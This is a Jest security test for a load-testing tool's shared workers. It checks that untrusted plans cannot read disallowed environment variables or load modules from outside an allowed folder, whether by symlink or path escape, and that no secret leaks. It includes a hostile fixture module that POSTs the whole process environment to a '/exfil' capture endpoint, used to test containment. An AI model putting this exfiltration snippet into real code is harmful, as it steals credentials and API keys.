/**
 * Shared workers and untrusted plans. First the worker's policy on its own (real files and
 * symlinks), then the secret test with every part real: a password-protected redis-server, a
 * `grym-perf worker` holding that password and an API key in its environment, plans submitted by
 * the CLI that name other variables or modules outside the allowed folder, and a capturing HTTP
 * server on loopback as their target. Nothing may leave: no request carries a secret, and no Redis
 * key or value, report or output line holds one.
 */
import { randomBytes } from 'node:crypto';
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import IORedis from 'ioredis';
import { stringify } from 'yaml';
import { submitRun, watchRun } from '../../src/coordinator/distributed';
import { shardTasks } from '../../src/coordinator/shard-tasks';
import { readPlan } from '../../src/shared/parse-plan';
import type { ResolvedTarget } from '../../src/shared/resolved-target';
import type { RunReport } from '../../src/shared/run-report';
import { decodeShardTask } from '../../src/shared/shard-task';
import { defaultWorkerName, workerNameProblem } from '../../src/worker/queue/worker-name';
import { admitShardTask, createWorkerPolicy, parseEnvNames } from '../../src/worker/queue/worker-policy';
import { REPO_ROOT, runCli, spawnCli, type CliProcess } from '../helpers/cli-process';
import { startTestRedis, type TestRedis } from '../helpers/redis-server';

// The secret test starts a worker and submits six plans through the CLI (tsx start-up ~1 s each on 2 cores).
jest.setTimeout(90_000);

const workDir = mkdtempSync(join(tmpdir(), 'grym-security-'));
const allowedDir = join(workDir, 'allowed');
const outsideDir = join(workDir, 'outside');
mkdirSync(allowedDir);
mkdirSync(outsideDir);
copyFileSync(join(REPO_ROOT, 'tests/fixtures/modules/chat-integration.js'), join(allowedDir, 'chat.js'));
// A module that sends the worker's whole environment home the moment a thread uses it.
const EVIL_MODULE = `exports.createSession = async () => {
  await fetch(process.env.GRYM_TEST_CAPTURE_URL + '/exfil', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});
  return { send: async () => 'ok', close() {} };
};
`;
writeFileSync(join(outsideDir, 'evil.js'), EVIL_MODULE);
symlinkSync(join(outsideDir, 'evil.js'), join(allowedDir, 'link-to-evil.js'));

afterAll(() => rmSync(workDir, { recursive: true, force: true }));

const HTTP_TARGET: ResolvedTarget = {
  kind: 'openai',
  endpoint: 'chat',
  baseUrl: 'http://127.0.0.1:9/v1',
  stream: true,
  requestTimeoutMs: 2000,
  maxResponseBytes: 1e6,
  memory: { source: 'none' },
};

describe('worker policy', () => {
  const loaded = readPlan(`
name: policy
target: { baseUrl: http://127.0.0.1:9/v1 }
phases: [{ name: p, scenario: requests, models: [m], load: { requests: 1 } }]
`);
  const taskWith = (target: Partial<ResolvedTarget>) => {
    const task = decodeShardTask(shardTasks(loaded, 0, HTTP_TARGET, 'r')[0]);
    return { ...task, target: { ...task.target, ...target } as ResolvedTarget };
  };
  const moduleTarget = (modulePath: string) => ({
    kind: 'module' as const,
    modulePath,
    heapSnapshots: false,
    requestTimeoutMs: 1000,
    memory: { source: 'thread-heap' as const },
  });
  const env = { VLLM_API_KEY: 'k', HOME: '/root', GRYM_REDIS_URL: 'redis://:pw@h', grym_redis_url: 'x' };

  test.each([
    ['GRYM_REDIS_URL, even when listed', 'GRYM_REDIS_URL', 'GRYM_* variables are never given to plans'],
    ['a GRYM_ name in another case', 'grym_redis_url', 'does not give environment variable grym_redis_url'],
    ['a variable not listed', 'HOME', 'start the worker with --allow-env HOME (or add it to GRYM_ALLOW_ENV)'],
    ['a listed variable that is not set', 'UNSET_KEY', 'target.apiKeyEnv names UNSET_KEY, which is not set on worker w1'],
  ])('refuses apiKeyEnv: %s', async (_, name, message) => {
    const { policy, ignoredEnv } = await createWorkerPolicy({
      allowEnv: ['VLLM_API_KEY', 'UNSET_KEY', 'GRYM_REDIS_URL', 'grym_redis_url'],
    });
    expect(ignoredEnv).toEqual(['GRYM_REDIS_URL', 'grym_redis_url']);
    await expect(admitShardTask(taskWith({ apiKeyEnv: name }), policy, 'w1', env)).rejects.toThrow(message);
  });

  test('admits an allowed, set variable, and a target without a key', async () => {
    const { policy } = await createWorkerPolicy({ allowEnv: ['VLLM_API_KEY'] });
    const task = taskWith({ apiKeyEnv: 'VLLM_API_KEY' });
    expect(await admitShardTask(task, policy, 'w1', env)).toBe(task);
    expect(await admitShardTask(taskWith({}), { allowEnv: new Set() }, 'w1', env)).toBeDefined();
  });

  test.each([
    ['outside the folder', join(outsideDir, 'evil.js'), `only modules inside`],
    ['inside it by name, outside by a symlink', join(allowedDir, 'link-to-evil.js'), 'only modules inside'],
    ['out of it by ..', join(allowedDir, '..', 'outside', 'evil.js'), 'only modules inside'],
    ['the folder itself', allowedDir, 'only modules inside'],
    ['missing, outside the folder (whether it exists is not said)', join(outsideDir, 'nothing.js'), 'only modules inside'],
    ['missing, inside the folder', join(allowedDir, 'typo.js'), 'no such file on this worker'],
  ])('refuses a module %s', async (_, path, message) => {
    const { policy } = await createWorkerPolicy({ allowModulesDir: allowedDir });
    await expect(admitShardTask(taskWith(moduleTarget(path)), policy, 'w1')).rejects.toThrow(message);
  });

  test('refuses every module without --allow-modules; admits one inside, by its real path through a symlinked folder', async () => {
    const { policy: none } = await createWorkerPolicy({});
    await expect(admitShardTask(taskWith(moduleTarget(join(allowedDir, 'chat.js'))), none, 'w1')).rejects.toThrow(
      'start the worker with --allow-modules DIR',
    );
    const linkedDir = join(workDir, 'linked-allowed');
    symlinkSync(allowedDir, linkedDir);
    const { policy } = await createWorkerPolicy({ allowModulesDir: linkedDir });
    expect(policy.allowModulesDir).toBe(allowedDir);
    const admitted = await admitShardTask(taskWith(moduleTarget(join(linkedDir, 'chat.js'))), policy, 'w1');
    expect(admitted.target).toMatchObject({ kind: 'module', modulePath: join(allowedDir, 'chat.js') });
    await expect(createWorkerPolicy({ allowModulesDir: join(allowedDir, 'chat.js') })).rejects.toThrow('is not a folder');
  });

  test('allow-lists and worker names are checked', () => {
    expect(parseEnvNames(' A_KEY, B ,,', '--allow-env')).toEqual(['A_KEY', 'B']);
    expect(() => parseEnvNames('OK,not-a-name', 'GRYM_ALLOW_ENV')).toThrow(
      'GRYM_ALLOW_ENV: "not-a-name" is not an environment variable name',
    );
    for (const good of ['w1', 'gpu-box.lab_2', 'a'.repeat(64)]) expect(workerNameProblem(good)).toBeUndefined();
    for (const bad of ['a b', '', '-w', 'w:1', 'a'.repeat(65), 'é']) expect(workerNameProblem(bad)).toContain('not a valid worker name');
    expect(workerNameProblem(defaultWorkerName('my host (lab)', 42))).toBeUndefined();
    expect(workerNameProblem(defaultWorkerName(`${'h'.repeat(80)}.example.com`, 4_194_304))).toBeUndefined();
  });
});

test('grym-perf worker refuses a name with a space, a bad allow-list and a missing modules folder (exit 2, before Redis)', async () => {
  const redisUrl = 'redis://127.0.0.1:9';
  // Nothing listens at that URL: a worker that got past its checks would wait for Redis until killed.
  const refuse = (args: string[]) => runCli(['worker', '--redis', redisUrl, ...args], { timeoutMs: 20_000 });
  const results = await Promise.all([
    refuse(['--name', 'gpu box']),
    refuse(['--allow-env', 'OK,bad name']),
    refuse(['--allow-modules', join(workDir, 'no-such-dir')]),
  ]);
  expect(results.map((result) => result.code)).toEqual([2, 2, 2]);
  expect(results[0]!.output).toContain('"gpu box" is not a valid worker name');
  expect(results[1]!.output).toContain('"bad name" is not an environment variable name');
  expect(results[2]!.output).toContain('is not a folder');
  for (const { output } of results) expect(output).not.toMatch(/\n\s+at /);
});

describe('the secret test', () => {
  const redisPassword = `redispw${randomBytes(12).toString('hex')}`;
  const apiKey = `sk-live-${randomBytes(16).toString('hex')}`;
  const secrets = [redisPassword, apiKey];
  let redis: TestRedis;
  let capture: Server;
  let captureUrl: string;
  const captured: Array<{ url: string; headers: IncomingHttpHeaders; body: string }> = [];
  let worker: CliProcess;
  const outputs: string[] = [];
  const prefix = `sec${process.pid}`;
  // GRYM_REDIS_URL is listed to show that listing it gives it to no plan.
  const policyFlags = ['--allow-env', 'VLLM_API_KEY,UNSET_TEST_KEY,GRYM_REDIS_URL', '--allow-modules', allowedDir];

  beforeAll(async () => {
    redis = await startTestRedis({ password: redisPassword });
    // The target: an OpenAI-compatible server that records every request it gets, whole.
    capture = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        captured.push({ url: request.url ?? '', headers: request.headers, body });
        response.setHeader('content-type', 'application/json');
        response.end(JSON.stringify({ choices: [{ message: { content: 'ok' } }], usage: { prompt_tokens: 3, completion_tokens: 1 } }));
      });
    });
    await new Promise<void>((resolve) => capture.listen(0, '127.0.0.1', resolve));
    captureUrl = `http://127.0.0.1:${(capture.address() as AddressInfo).port}`;
    worker = spawnCli(['worker', '--prefix', prefix, '--name', 'vault', '--threads', '1', '--concurrency', '2', ...policyFlags], {
      env: { GRYM_REDIS_URL: redis.url, VLLM_API_KEY: apiKey, UNSET_TEST_KEY: '', GRYM_TEST_CAPTURE_URL: captureUrl },
    });
    await worker.waitFor(/ready on/);
  });

  afterAll(async () => {
    worker.kill('SIGTERM');
    await worker.exited;
    await new Promise((resolve) => capture.close(resolve));
    await redis.destroy();
  });

  function writePlan(name: string, target: Record<string, unknown>): string {
    const file = join(workDir, `${name}.yaml`);
    const phase = { name: 'load', scenario: 'requests', models: ['m'], load: { concurrency: 1, requests: 4 } };
    writeFileSync(file, stringify({ version: 1, name, seed: 1, target, phases: [phase] }));
    return file;
  }

  /** Submits a plan as a user without the worker's secrets would: the CLI knows the Redis URL, not the key. */
  async function submit(name: string, target: Record<string, unknown>) {
    const out = join(workDir, 'reports', name);
    const args = ['run', writePlan(name, target), '--prefix', prefix, '--out', out, '--worker-wait', '1s'];
    const result = await runCli(args, { env: { GRYM_REDIS_URL: redis.url, VLLM_API_KEY: '' } });
    outputs.push(result.output);
    return { ...result, report: JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as RunReport };
  }

  /**
   * Queues a run whose target names `apiKeyEnv` as a submitter with access to Redis can, without the
   * CLI's checks (its plan validation refuses GRYM_* names), then fetches its report with the CLI.
   */
  async function submitAroundTheCli(name: string, apiKeyEnv: string) {
    const file = writePlan(name, http('HOME'));
    const target: ResolvedTarget = { ...JSON.parse(JSON.stringify(HTTP_TARGET)), baseUrl: `${captureUrl}/v1`, apiKeyEnv, stream: false };
    const loaded = readPlan(readFileSync(file, 'utf8'), file);
    const { runId } = await submitRun({ redisUrl: redis.url, prefix, loaded, target, workerWaitMs: 1000 });
    await watchRun({ redisUrl: redis.url, prefix, runId, pollMs: 100 });
    const out = join(workDir, 'reports', name);
    const result = await runCli(['report', runId, '--prefix', prefix, '--out', out], { env: { GRYM_REDIS_URL: redis.url } });
    outputs.push(result.output);
    return { ...result, report: JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as RunReport };
  }

  const http = (apiKeyEnv: string) => ({ baseUrl: `${captureUrl}/v1`, apiKeyEnv, stream: false, requestTimeout: '2s' });
  const module = (path: string) => ({ kind: 'module', module: path, requestTimeout: '2s' });

  test('plans naming other variables or modules outside the allowed folder fail clearly, and nothing leaves', async () => {
    const refused = await Promise.all([
      submitAroundTheCli('redis-url', 'GRYM_REDIS_URL'),
      submit('home', http('HOME')),
      submit('unset', http('UNSET_TEST_KEY')),
      submit('outside-module', module('./outside/evil.js')),
      submit('symlinked-module', module('./allowed/link-to-evil.js')),
    ]);
    const expected = [
      'worker vault does not give environment variable GRYM_REDIS_URL to plans: GRYM_* variables are never given to plans',
      'worker vault does not give environment variable HOME to plans: start the worker with --allow-env HOME',
      'target.apiKeyEnv names UNSET_TEST_KEY, which is not set on worker vault',
      `worker vault does not load module ${join(outsideDir, 'evil.js')}: only modules inside ${allowedDir}`,
      `worker vault does not load module ${join(allowedDir, 'link-to-evil.js')}: only modules inside ${allowedDir}`,
    ];
    refused.forEach(({ code, output, report }, index) => {
      expect({ code, passed: report.passed }).toEqual({ code: 1, passed: false });
      expect(report.phases[0]!.error?.message).toContain(expected[index]);
      expect(output).toContain(expected[index]);
      // Refused before the first request: nothing was measured, and the refusal was not retried.
      expect(report.phases[0]!.metrics.requests.total).toBe(0);
      expect(report.phases[0]!.shards).toEqual([]);
    });
    expect(captured.map((request) => request.url)).toEqual([]);
    expect(worker.output().match(/: attempt \d/g) ?? []).toEqual([]);
    // Through the CLI, the same plan does not even get queued.
    const viaCli = await runCli(
      ['run', writePlan('redis-url-cli', http('GRYM_REDIS_URL')), '--prefix', prefix, '--out', join(workDir, 'never')],
      {
        env: { GRYM_REDIS_URL: redis.url },
      },
    );
    outputs.push(viaCli.output);
    expect({ code: viaCli.code, refused: viaCli.output.includes('GRYM_') }).toEqual({ code: 2, refused: true });
  });

  test('an allowed variable reaches its own target, and only there', async () => {
    const before = captured.length;
    const allowed = await submit('allowed-key', http('VLLM_API_KEY'));
    const allowedModule = await submit('allowed-module', module('./allowed/chat.js'));
    expect({ code: allowed.code, output: allowed.output }).toMatchObject({ code: 0 });
    expect(allowed.report.phases[0]!.metrics.requests.total).toBe(4);
    const requests = captured.slice(before);
    expect(requests.length).toBeGreaterThanOrEqual(4);
    for (const request of requests) {
      expect(request.url).toBe('/v1/chat/completions');
      expect(request.headers.authorization === `Bearer ${apiKey}`).toBe(true);
      expect(JSON.stringify(request).includes(redisPassword)).toBe(false);
    }
    expect({ code: allowedModule.code, output: allowedModule.output }).toMatchObject({ code: 0 });
    expect(allowedModule.report.phases[0]!.metrics.requests.total).toBe(4);
  });

  test('no Redis key or value, report or output line holds a secret', async () => {
    const client = new IORedis(redis.url);
    let dump = '';
    try {
      for await (const keys of client.scanStream({ count: 500 }) as AsyncIterable<string[]>) {
        for (const key of keys) dump += `${key}\n${await dumpKey(client, key)}\n`;
      }
    } finally {
      client.disconnect();
    }
    // The hostile jobs are in the dump: it read what it had to.
    expect(dump.includes('"apiKeyEnv\\":\\"GRYM_REDIS_URL')).toBe(true);
    const reports = readdirSync(join(workDir, 'reports'), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'));
    // Seven runs, each with report.json, report.md and report.html: all searched.
    expect(reports.length).toBe(21);
    const places: Array<[string, string]> = [
      ['redis', dump],
      ...reports.map((report, index): [string, string] => [`report file ${index}`, report]),
      ...outputs.map((output, index): [string, string] => [`CLI output ${index}`, output]),
      ['worker output', worker.output()],
      ['requests to other paths than the target API', JSON.stringify(captured.filter((request) => request.url !== '/v1/chat/completions'))],
    ];
    // Named, not printed: a failure must not put the secrets in the test log.
    const forms = secrets.flatMap((secret) => [secret, Buffer.from(secret).toString('base64')]);
    expect(places.filter(([, text]) => forms.some((form) => text.includes(form))).map(([where]) => where)).toEqual([]);
  });
});

/** A key's value as text, whatever its type. */
async function dumpKey(client: IORedis, key: string): Promise<string> {
  const type = await client.type(key);
  if (type === 'string') return (await client.get(key)) ?? '';
  if (type === 'hash') return JSON.stringify(await client.hgetall(key));
  if (type === 'list') return JSON.stringify(await client.lrange(key, 0, -1));
  if (type === 'set') return JSON.stringify(await client.smembers(key));
  if (type === 'zset') return JSON.stringify(await client.zrange(key, '0', '-1', 'WITHSCORES'));
  if (type === 'stream') return JSON.stringify(await client.xrange(key, '-', '+'));
  throw new Error(`key ${key} has a type this dump does not read: ${type}`);
}
